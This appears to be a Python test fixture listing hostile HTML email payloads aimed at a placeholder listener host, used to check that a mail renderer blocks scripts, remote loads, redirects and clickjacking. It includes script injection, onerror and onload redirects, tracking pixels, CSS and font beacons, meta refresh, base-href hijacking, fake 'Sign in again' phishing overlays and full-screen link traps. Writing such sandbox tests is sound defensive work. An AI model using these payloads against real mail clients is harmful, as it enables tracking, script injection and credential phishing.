"""HTML that tries to act, to load, or to lead away. `{host}` is a listener that no frame may reach."""

MAILS = {
    "script": "<script>top.document.title='owned';fetch('http://{host}/')</script><script src='http://{host}/x.js'></script>",
    "handler": "<img src=data:, onerror=\"top.location='http://{host}/'\"><body onload=\"fetch('http://{host}/')\">",
    "svg-script": "<svg onload=\"location='http://{host}/'\"><script href='http://{host}/x.js'></script></svg>",
    "svg-image": "<svg><image href='https://{host}/x.png'/><use href='https://{host}/x.svg#a'/></svg>",
    "image": "<img src='https://{host}/x.png'><img src='http://{host}/x.png'>",
    "image-set": "<img srcset='https://{host}/x.png 1x'><picture><source srcset='https://{host}/y.png'><img></picture>",
    "background": "<table background='https://{host}/x.png'><td style=\"background:url('https://{host}/y.png')\">x</table>",
    "style-import": "<style>@import url('https://{host}/x.css'); body {{ background: url(//{host}/y.png) }}</style>",
    "style-sheet": "<link rel=stylesheet href='https://{host}/x.css'><p>x",
    "style-font": "<style>@font-face {{ font-family: f; src: url(//{host}/f) }}</style><p style='font-family:f'>x",
    "style-cursor": "<p style=\"cursor:url('https://{host}/x.cur'),auto;list-style-image:url(https://{host}/y.png)\">x",
    "preconnect": "<link rel=preconnect href='http://{host}'><link rel=preconnect href='https://{host}' crossorigin>",
    "prefetch": "<link rel=dns-prefetch href='//{host}'><link rel=prefetch href='http://{host}/x'>"
    "<link rel=preload as=image href='https://{host}/x.png'><link rel=modulepreload href='http://{host}/x.js'>",
    "icon": "<link rel=icon href='https://{host}/x.ico'><link rel=manifest href='https://{host}/m'>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://{host}/'>",
    "own-policy": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src='https://{host}/x.png'>",
    "base": "<base href='http://{host}/' target=_top><img src='x.png'><link rel=stylesheet href='x.css'>",
    "frame": "<iframe src='http://{host}/'></iframe><iframe srcdoc=\"<img src='https://{host}/x.png'>\"></iframe>",
    "frame-set": "<frameset><frame src='http://{host}/'></frameset>",
    "object": "<object data='http://{host}/x.svg'></object><embed src='http://{host}/x.pdf'><applet code='http://{host}/'>",
    "media": "<video src='https://{host}/x.mp4' poster='https://{host}/x.png' autoplay></video>"
    "<audio src='https://{host}/x.mp3' autoplay></audio><track src='https://{host}/x.vtt'>",
    "form": "<form action='http://{host}/'><input type=image src='https://{host}/x.png'><input autofocus></form>",
    "title": "<title>Signed out</title><h1>Sign in again</h1>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>",
}
"""Loaded without any act of a person."""

LINKS = {
    "link": "<a href='http://{host}/' style='position:fixed;inset:0'>x</a>",
    "link-top": "<a href='http://{host}/' target=_top style='position:fixed;inset:0'>x</a>",
    "link-new": "<a href='http://{host}/' target=_blank ping='http://{host}/ping' style='position:fixed;inset:0'>x</a>",
    "script-link": "<a href=\"javascript:top.location='//{host}/'\" target=_top style='position:fixed;inset:0'>x</a>",
    "submit": "<form action='http://{host}/' target=_top><button style='position:fixed;inset:0'>x</button></form>",
}
"""What is clicked."""
